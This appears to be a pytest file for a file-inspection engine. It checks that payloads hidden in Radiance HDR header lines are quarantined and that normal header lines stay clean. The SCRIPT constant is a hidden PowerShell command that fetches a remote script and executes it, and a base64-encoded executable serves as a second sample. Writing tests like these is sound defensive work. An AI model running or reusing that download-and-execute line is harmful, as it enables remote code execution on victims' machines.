"""A Radiance HDR header is judged (agent/inspect/hdr.py): its lines up to the empty line
(`# comments`, SOFTWARE=, VIEW=...) are free text of the writer's choosing."""

from __future__ import annotations

import base64
import random

import pytest

from agent.inspect.engine import inspect_bytes
from bench import walker_files as wf
from tests import classify_samples as cs

SCRIPT = b"powershell -nop -w hidden -c iex(iwr http://198.51.100.7/a.ps1)"
PAYLOADS = {"base64 program": base64.b64encode(cs.real_pe()), "script": SCRIPT}
SIGNATURE_LINE = b"#?RADIANCE\n"


def _with_line(line: bytes) -> bytes:
    hdr = wf.radiance_hdr(random.Random(7))
    assert hdr.startswith(SIGNATURE_LINE)
    return SIGNATURE_LINE + line + b"\n" + hdr[len(SIGNATURE_LINE) :]


@pytest.mark.parametrize("kind", PAYLOADS)
def test_a_payload_in_a_header_line_is_quarantined(kind: str) -> None:
    report = inspect_bytes("sky.hdr", _with_line(b"# " + PAYLOADS[kind]))
    assert report.verdict.value == "quarantine"
    assert "hdr.payload_in_metadata" in {f.code for f in report.findings}


def test_a_writers_header_lines_stay_clean() -> None:
    hdr = _with_line(b"SOFTWARE=GIMP 2.10.34\nVIEW= -vtv -vp 0 0 0 -vd 0 1 0")
    assert inspect_bytes("sky.hdr", hdr).verdict.value == "clean"
